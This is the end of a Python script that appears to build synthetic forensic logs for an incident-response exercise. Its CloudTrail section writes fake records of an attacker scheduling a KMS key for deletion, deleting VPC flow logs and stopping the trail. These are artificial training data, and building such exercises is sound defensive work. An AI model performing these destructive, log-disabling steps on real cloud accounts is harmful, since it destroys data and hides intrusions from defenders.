    recs.append(call(t, "ci-deployer", "kms.amazonaws.com", "ScheduleKeyDeletion",
                     {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab", "pendingWindowInDays": 7}, "eu-west-1", ATTACKER,
                     response={"keyId": f"arn:aws:kms:eu-west-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab", "keyState": "PendingDeletion"}))
    # 13:59 VPC flow logs deleted
    t = at(d, "13:59:05")
    recs.append(call(t, "ci-deployer", "ec2.amazonaws.com", "DeleteFlowLogs",
                     {"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": "fl-0c4a57e4b1f8d8c21"}}}, "eu-west-1", ATTACKER,
                     response={"DeleteFlowLogsResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/", "requestId": uid(), "unsuccessful": ""}}))
    # 14:01 the trail is stopped: no CloudTrail events afterwards
    t = at(d, "14:01:48")
    recs.append(call(t, "ci-deployer", "cloudtrail.amazonaws.com", "StopLogging",
                     {"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/acme-management"}, "eu-west-1", ATTACKER))

    recs.sort(key=lambda r: r["eventTime"])
    out = OUT / "cloudtrail"
    out.mkdir(parents=True, exist_ok=True)
    by_day: dict[str, list[dict]] = {}
    for r in recs:
        by_day.setdefault(r["eventTime"][:10], []).append(r)
    for dayname, rs in by_day.items():
        stamp = dayname.replace("-", "")
        name = f"{ACCOUNT}_CloudTrail_eu-west-1_{stamp}T2355Z_sample.json.gz"
        with open(out / name, "wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as f:
            f.write(json.dumps({"Records": rs}, separators=(",", ":")).encode())


if __name__ == "__main__":
    import shutil
    for sub in ("syslog", "nginx", "cloudtrail"):
        shutil.rmtree(OUT / sub, ignore_errors=True)
    build_syslog()
    build_nginx()
    build_cloudtrail()
